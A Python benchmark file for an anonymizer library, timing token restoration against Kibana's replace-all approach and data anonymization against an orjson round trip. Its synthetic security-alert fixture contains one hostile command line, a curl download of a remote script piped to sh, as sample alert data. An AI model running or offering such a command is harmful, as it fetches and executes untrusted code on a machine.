"""Core engine benchmarks: restore vs Kibana's algorithm, restore flatness, anonymize_data vs orjson.

Every figure is a ratio against a baseline measured in the same process, so it means the same on any machine.
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Callable
from typing import Any

import orjson

from anonymizer import Anonymizer, FieldPolicy

WORDS = [
    "the",
    "alert",
    "fired",
    "on",
    "host",
    "after",
    "user",
    "logged",
    "in",
    "from",
    "an",
    "unusual",
    "address",
    "and",
    "the",
    "process",
    "spawned",
    "a",
    "shell",
    "which",
    "then",
    "connected",
    "to",
    "a",
    "remote",
    "server",
    "over",
    "port",
    "443",
    "we",
    "recommend",
    "isolating",
    "the",
    "machine",
    "reviewing",
    "recent",
    "authentication",
    "events",
    "and",
    "rotating",
    "credentials",
    "for",
    "the",
    "affected",
    "account",
]


def _time(fn: Callable[[], Any], *, repeat: int, number: int) -> float:
    """Median seconds per call over ``repeat`` batches of ``number`` calls."""
    samples = []
    for _ in range(repeat):
        start = time.perf_counter_ns()
        for _ in range(number):
            fn()
        samples.append((time.perf_counter_ns() - start) / number / 1e9)
    return statistics.median(samples)


def _ratio(
    ours: Callable[[], Any], base: Callable[[], Any], *, repeat: int, number: int, base_number: int = 0
) -> tuple[float, float, float]:
    """Median of per-round ratios ours/base, each round timing a batch of each back to back (interleaved, so
    that a slow spell of the machine hits both sides); also the median seconds per call of each."""
    base_number = base_number or number
    ratios: list[float] = []
    ours_s: list[float] = []
    base_s: list[float] = []
    for _ in range(repeat):
        a = _time(ours, repeat=1, number=number)
        b = _time(base, repeat=1, number=base_number)
        ratios.append(a / b)
        ours_s.append(a)
        base_s.append(b)
    return statistics.median(ratios), statistics.median(ours_s), statistics.median(base_s)


def _session_with(n_tokens: int, tokens: str = "uuid") -> tuple[Any, list[str]]:
    session = Anonymizer(policy=FieldPolicy.anonymize_all(), tokens=tokens).session()
    minted = [session.token_for(f"original-value-{i:05d}", field="user.name") for i in range(n_tokens)]
    return session, minted


def model_answer(tokens: list[str], size: int, rng: random.Random, rate: float = 0.01) -> str:
    """About ``size`` characters of model-like prose with a token in ~``rate`` of its words."""
    out: list[str] = []
    length = 0
    while length < size:
        word = rng.choice(tokens) if rng.random() < rate else rng.choice(WORDS)
        out.append(word)
        length += len(word) + 1
    return " ".join(out)


def kibana_restore(text: str, replacements: dict[str, str]) -> str:
    """Kibana's replaceAnonymizedValuesWithOriginalValues: one replace-all per token, in map order."""
    for token, original in replacements.items():
        text = text.replace(token, original)
    return text


def bench_restore(quick: bool) -> dict[str, float]:
    rng = random.Random(7)
    repeat = 5 if quick else 15
    session, tokens = _session_with(1000)
    text = model_answer(tokens, 100_000, rng)
    replacements = session.replacements
    restorer = session.restorer
    assert restorer.restore(text) == kibana_restore(text, replacements)
    speedup, kibana_s, ours_s = _ratio(  # Kibana's time over ours
        lambda: kibana_restore(text, replacements),
        lambda: restorer.restore(text),
        repeat=repeat,
        number=2,
        base_number=20,
    )

    flat: dict[int, float] = {}
    counts = (10, 10_000)
    for n in counts:
        s, toks = _session_with(n)
        # the same text shape for both sizes: the same words, tokens drawn from this map
        t = model_answer(toks, 100_000, random.Random(11))
        r = s.restorer
        flat[n] = _time(lambda r=r, t=t: r.restore(t), repeat=repeat, number=20)  # type: ignore[misc]
    placeholder: dict[int, float] = {}
    for n in counts:
        s, toks = _session_with(n, "placeholder")
        t = model_answer(toks, 100_000, random.Random(11))
        r = s.restorer
        assert r.restore(t) == kibana_restore(t, s.replacements)
        placeholder[n] = _time(lambda r=r, t=t: r.restore(t), repeat=repeat, number=20)  # type: ignore[misc]
    return {
        "placeholder_restore_flatness_10_to_10000": round(placeholder[10_000] / placeholder[10], 2),
        "placeholder_restore_us_100kb_10000": round(placeholder[10_000] * 1e6, 1),
        "restore_speedup_vs_kibana_1000": round(speedup, 1),
        "restore_us_100kb_1000": round(ours_s * 1e6, 1),
        "kibana_restore_us_100kb_1000": round(kibana_s * 1e6, 1),
        "restore_flatness_10_to_10000": round(flat[10_000] / flat[10], 2),
    }


def ecs_message(i: int) -> dict[str, Any]:
    """A 30-field ECS alert message (flat and nested), as attached to a chat/complete message."""
    return {
        "@timestamp": "2024-08-02T07:19:08.124Z",
        "_id": f"a1b2c3d4e5f6{i:04d}",
        "event": {
            "category": "process",
            "module": "endpoint",
            "dataset": "endpoint.events.process",
            "outcome": "success",
        },
        "host": {
            "name": f"srv-web-{i:02d}",
            "os": {"name": "Ubuntu", "version": "22.04"},
            "architecture": "x86_64",
            "type": "server",
        },
        "user": {"name": "jdoe", "domain": "CORP", "target": {"name": "root"}},
        "source.ip": "10.1.2.3",
        "destination.ip": "172.16.4.20",
        "process": {
            "name": "bash",
            "pid": 4242,
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "curl http://198.51.100.7/x.sh | sh"],
            "command_line": "bash -c curl http://198.51.100.7/x.sh | sh",
            "parent": {"name": "sshd", "executable": "/usr/sbin/sshd"},
            "working_directory": "/home/jdoe",
            "hash": {"sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
        },
        "file.path": "/tmp/x.sh",
        "kibana.alert.rule.name": "Suspicious curl pipe to shell",
        "kibana.alert.severity": "high",
        "kibana.alert.risk_score": 73,
        "kibana.alert.workflow_status": "open",
        "message": "jdoe ran a downloaded script on srv-web-01",
        "network.protocol": "http",
        "rule.name": "curl | sh",
    }


def bench_anonymize_data(quick: bool) -> dict[str, float]:
    repeat = 7 if quick else 21
    message = ecs_message(1)
    engine = Anonymizer(policy=FieldPolicy.kibana_default())
    session = engine.session()
    session.anonymize_data(message, fields_to_anonymize=["source.ip"])  # originals now known: steady state

    def ours() -> None:
        session.anonymize_data(message, fields_to_anonymize=["source.ip"])

    def baseline() -> None:
        orjson.loads(orjson.dumps(message))

    counter = iter(range(10**9))

    def first_seen() -> None:  # a fresh conversation each time: every token is minted
        engine.session().anonymize_data(ecs_message(next(counter)), fields_to_anonymize=["source.ip"])

    ratio, steady, base = _ratio(ours, baseline, repeat=repeat, number=2000)
    # interleaved with the baseline too: on a shared machine a separate timing can land in another load spell
    fresh_ratio, fresh, _ = _ratio(first_seen, baseline, repeat=repeat, number=200, base_number=2000)
    return {
        "anonymize_data_vs_orjson": round(ratio, 2),
        "anonymize_data_us": round(steady * 1e6, 2),
        "orjson_roundtrip_us": round(base * 1e6, 2),
        "anonymize_new_session_vs_orjson": round(fresh_ratio, 2),
        "anonymize_new_session_us": round(fresh * 1e6, 2),
    }


def run(quick: bool) -> dict[str, float]:
    """All core figures."""
    return {**bench_restore(quick), **bench_anonymize_data(quick)}
